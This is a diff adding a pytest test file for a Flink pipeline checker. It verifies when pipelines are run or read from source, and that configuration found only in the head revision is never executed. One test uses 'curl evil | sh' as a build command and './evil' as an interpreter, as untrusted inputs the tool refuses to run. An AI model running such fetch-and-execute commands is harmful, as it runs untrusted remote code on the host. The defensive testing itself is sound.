@@ -1,0 +1,256 @@
+"""Which means a pipeline with ``extract = "auto"`` is read by: the same for both revisions, with the reason."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Mapping
+from dataclasses import dataclass, field, replace
+
+import pytest
+
+from checker.errors import ExtractionError
+from checker.extract import registry
+from checker.extract.automatic import document_kind, source_kind, unread
+from checker.extract.flink_runtime.extracting import Execution
+from checker.model.pipelines import ExtractorKind, PipelineEntry
+from checker.model.sources import MemoryFiles, SourceFiles
+from checker.pipeline import choosing
+from checker.pipeline.capturing import Runner, lacks
+from checker.pipeline.choosing import Choice, SideToRead, choose
+from checker.pipeline.records import ReadPipeline
+from checker.settings import Settings, read_settings
+
+JAVA = b"""package jobs;
+public class Orders {
+  public static void main(String[] args) throws Exception {
+    var env = org.apache.flink.streaming.api.environment.StreamExecutionEnvironment.getExecutionEnvironment();
+    env.fromSequence(0, 9).print().uid("out");
+    env.execute();
+  }
+}
+"""
+PLAN = b'{"flinkVersion": "1.20", "nodes": [], "edges": []}'
+FILES = MemoryFiles({"src/jobs/Orders.java": JAVA})
+NOTHING = MemoryFiles({"README.md": b""})
+ORDERS = PipelineEntry(
+    name="orders", extract=ExtractorKind.AUTO, main="jobs.Orders", flink="1.20", build="make", discovered=False
+)
+
+
+@dataclass(frozen=True, kw_only=True)
+class Scripted(Runner):
+    """Runs nothing: a commit whose name is in ``failing`` fails, others submit a job with the commit's name."""
+
+    failing: Mapping[str, str] = field(default_factory=dict)
+    ran: list[str] = field(default_factory=list)
+
+    def _captured(self, files: SourceFiles, commit: str | None, entry: PipelineEntry) -> tuple[ReadPipeline, ...]:
+        assert commit is not None
+        self.ran.append(commit)
+        if commit in self.failing:
+            raise ExtractionError(self.failing[commit])
+        topology = json.dumps({"topology": 1, "name": entry.name, "transformations": [], "commit": commit})
+        return tuple(
+            ReadPipeline(name=name, extractor="flink", topology=topology, how="by real Flink 1.20.5")
+            for name in (entry.name, f"{entry.name} (second)")
+        )
+
+
+@pytest.fixture(autouse=True)
+def a_jvm(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(choosing, "missing_here", lambda: None)
+
+
+def chosen(
+    entry: PipelineEntry = ORDERS,
+    *,
+    base: SourceFiles = FILES,
+    head: SourceFiles = FILES,
+    allow_exec: bool = True,
+    trusted: tuple[PipelineEntry, ...] | None = None,
+    failing: Mapping[str, str] | None = None,
+) -> tuple[Choice, list[str]]:
+    runner = Scripted(
+        execution=Execution(allow_exec=allow_exec),
+        trusted=(entry,) if trusted is None else trusted,
+        failing=failing or {},
+    )
+    sides = (
+        SideToRead(name="base", files=base, commit="before", entries=(entry,)),
+        SideToRead(name="head", files=head, commit="after", entries=(replace(entry, optional=False),)),
+    )
+    return choose(sides, runner), runner.ran
+
+
+def means(choice: Choice) -> dict[str, str]:
+    """Side → whether its pipelines were run, or are left to the source readers."""
+    found = {}
+    for side in ("base", "head"):
+        if choice.read[side]:
+            found[side] = "run"
+        if choice.entries[side]:
+            found[side] = found.get(side, "") + "source"
+    return found
+
+
+def test_what_may_run_is_run_on_both_sides() -> None:
+    choice, ran = chosen()
+    assert means(choice) == {"base": "run", "head": "run"}
+    assert sorted(ran) == ["after", "before"]
+    assert [r.name for r in choice.read["head"]] == ["orders", "orders (second)"]
+    assert not choice.notes
+    assert not choice.reasons
+
+
+@pytest.mark.parametrize(
+    ("entry", "why"),
+    [
+        (replace(ORDERS, build=None), "neither build nor jars are configured"),
+        (replace(ORDERS, main="jobs/orders.py"), "no interpreter with PyFlink is configured"),
+        (replace(ORDERS, main=None, file="src/jobs/Orders.java"), "no main class is configured"),
+    ],
+)
+def test_what_can_not_be_run_is_read_from_source(entry: PipelineEntry, why: str) -> None:
+    choice, ran = chosen(entry)
+    assert means(choice) == {"base": "source", "head": "source"}
+    assert (choice.reasons["orders"].why, choice.reasons["orders"].settled_by, ran) == (why, None, [])
+
+
+def test_without_permission_nothing_runs_and_the_option_is_named() -> None:
+    choice, ran = chosen(allow_exec=False)
+    assert means(choice) == {"base": "source", "head": "source"}
+    assert ran == []
+    assert choice.reasons["orders"].why == "--allow-exec is not given"
+    assert choice.reasons["orders"].settled_by == "--allow-exec"
+    assert not choice.notes
+
+
+@pytest.mark.parametrize(
+    "configured",
+    [
+        (),
+        (replace(ORDERS, build="curl evil | sh"),),
+        (replace(ORDERS, interpreter="./evil"),),
+        (replace(ORDERS, args=("--cmd",)),),
+        (replace(ORDERS, extract=ExtractorKind.JAVA),),
+    ],
+)
+def test_what_only_the_head_configures_is_not_run(configured: tuple[PipelineEntry, ...]) -> None:
+    choice, ran = chosen(trusted=configured)
+    assert means(choice) == {"base": "source", "head": "source"}
+    assert ran == []
+    (note,) = choice.notes
+    assert "not configured like this in the base" in note.message
+
+
+@pytest.mark.parametrize(("broken", "side"), [("after", "head"), ("before", "base")])
+def test_where_one_side_fails_both_are_read_from_source(broken: str, side: str) -> None:
+    choice, _ = chosen(failing={broken: "the build 'make' failed with status 7; its output ended with:\n  no artifact"})
+    assert means(choice) == {"base": "source", "head": "source"}
+    (note,) = choice.notes
+    assert note.message.startswith(f"orders is read from source in both revisions, not run: running the {side} failed")
+    assert "no artifact" in note.message
+    assert "\n" not in note.message
+    assert ("further jobs orders (second) are not compared" in note.message) == (side == "base")
+    assert choice.reasons["orders"].why.startswith(f"running the {side} failed: the build 'make' failed")
+
+
+def test_a_machine_without_java_reads_source_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(choosing, "missing_here", lambda: "no JVM was found")
+    choice, ran = chosen()
+    assert (means(choice), ran) == ({"base": "source", "head": "source"}, [])
+    assert "no JVM was found" in choice.notes[0].message
+
+
+def test_jars_of_one_revision_tell_nothing_of_the_other() -> None:
+    one = replace(ORDERS, build=None, jars=("target/app.jar",))
+    choice, ran = chosen(one)
+    assert (means(choice), ran) == ({"base": "source", "head": "source"}, [])
+    assert "set build" in choice.notes[0].message
+    assert means(chosen(replace(one, jars=("builds/{commit}/app.jar",)))[0]) == {"base": "run", "head": "run"}
+
+
+def test_a_pipeline_that_the_base_lacks_is_run_in_the_head() -> None:
+    choice, _ = chosen(base=NOTHING, failing={"before": "the given jars hold no class jobs.Orders"})
+    assert means(choice) == {"head": "run"}
+    assert not choice.notes
+
+
+def test_flink_written_out_never_falls_back() -> None:
+    choice, _ = chosen(replace(ORDERS, extract=ExtractorKind.FLINK), failing={"after": "it threw"})
+    assert means(choice) == {"base": "run", "head": "run"}
+    assert choice.read["head"][0].failure == "it threw"
+
+
+@pytest.mark.parametrize("kind", [ExtractorKind.JAVA, ExtractorKind.DOCUMENT])
+def test_an_extractor_written_out_is_not_run(kind: ExtractorKind) -> None:
+    choice, ran = chosen(replace(ORDERS, extract=kind))
+    assert (means(choice), ran, choice.reasons) == ({"base": "source", "head": "source"}, [], {})
+
+
+def test_what_was_discovered_stays_with_the_source_readers() -> None:
+    (found,) = registry.discover(FILES, Settings()).entries
+    assert found.extract is ExtractorKind.JAVA
+    assert means(chosen(found)[0]) == {"base": "source", "head": "source"}
+
+
+def test_a_file_that_holds_the_graph_wins_over_running() -> None:
+    files = MemoryFiles({"jobs/orders.topology.yaml": b"", "src/jobs/Orders.java": JAVA})
+    choice, ran = chosen(replace(ORDERS, file="jobs/orders.topology.yaml"), base=files, head=files)
+    assert (means(choice), ran, choice.reasons) == ({"base": "source", "head": "source"}, [], {})
+
+
+SCALA = MemoryFiles({"src/Job.scala": b"package jobs\nobject Orders { def main(args: Array[String]): Unit = {} }"})
+
+
+def test_other_languages_are_read_by_running_them_only() -> None:
+    failed, _ = chosen(base=SCALA, head=SCALA, failing={"after": "it threw"})
+    assert failed.read["head"][0].failure == "it threw"
+    refused, _ = chosen(base=SCALA, head=SCALA, allow_exec=False)
+    extracted = registry.extract(SCALA, refused.entries["head"][0])
+    assert extracted is not None
+    assert extracted.failure is not None
+    assert extracted.failure.startswith("src/Job.scala is a program in Scala, which is not read from source")
+
+
+@pytest.mark.parametrize(
+    ("changes", "kind"),
+    [
+        ({"main": "jobs.Orders"}, ExtractorKind.JAVA),
+        ({"main": "jobs/orders.py"}, ExtractorKind.PYTHON),
+        ({"main": None, "file": "jobs/orders.py"}, ExtractorKind.PYTHON),
+        ({"main": None, "file": "orders.topology.json"}, ExtractorKind.DOCUMENT),
+        ({"main": None, "file": "orders.yaml"}, ExtractorKind.DOCUMENT),
+        ({"main": None, "file": "plan.json"}, ExtractorKind.SQL),
+        ({"main": None, "file": "other.json"}, ExtractorKind.DOCUMENT),
+        ({"main": "jobs.Orders", "file": "src/jobs/Orders.java"}, ExtractorKind.JAVA),
+    ],
+)
+def test_the_source_reader_that_fits(changes: dict[str, str | None], kind: ExtractorKind) -> None:
+    files = MemoryFiles({"plan.json": PLAN, "other.json": b"{}", "src/jobs/Orders.java": JAVA})
+    entry = replace(ORDERS, **changes)  # type: ignore[arg-type]
+    assert source_kind(files, entry) is kind
+    assert unread(files, entry) is None
+    assert (document_kind(files, entry) is kind) == (kind in (ExtractorKind.DOCUMENT, ExtractorKind.SQL))
+
+
+def test_a_sql_script_has_no_source_reader_but_can_run_without_jars() -> None:
+    entry = replace(ORDERS, main=None, file="etl.sql", build=None)
+    assert unread(MemoryFiles({"etl.sql": b"INSERT INTO a SELECT 1"}), entry) is not None
+    assert unread(NOTHING, entry) is None
+    assert lacks(entry) is None
+
+
+def test_a_configured_pipeline_is_not_found_a_second_time() -> None:
+    files = MemoryFiles(
+        {
+            "savepoint-checker.toml": b"[[pipeline]]\nname = 'a'\nmain = 'jobs.Orders'\n"
+            b"[[pipeline]]\nname = 'b'\nfile = 'b.topology.yaml'\n[[pipeline]]\nname = 'c'\nfile = 'plan.json'\n",
+            "src/jobs/Orders.java": JAVA,
+            "b.topology.yaml": b"topology: 1\nname: x\ntransformations:\n- {id: s, kind: source}\n",
+            "plan.json": PLAN,
+        }
+    )
+    settings = read_settings(files)
+    assert [e.name for e in registry.discover(files, settings).entries] == ["a", "b", "c"]
+    assert {e.name: e.extract for e in settings.pipelines} == dict.fromkeys("abc", ExtractorKind.AUTO)
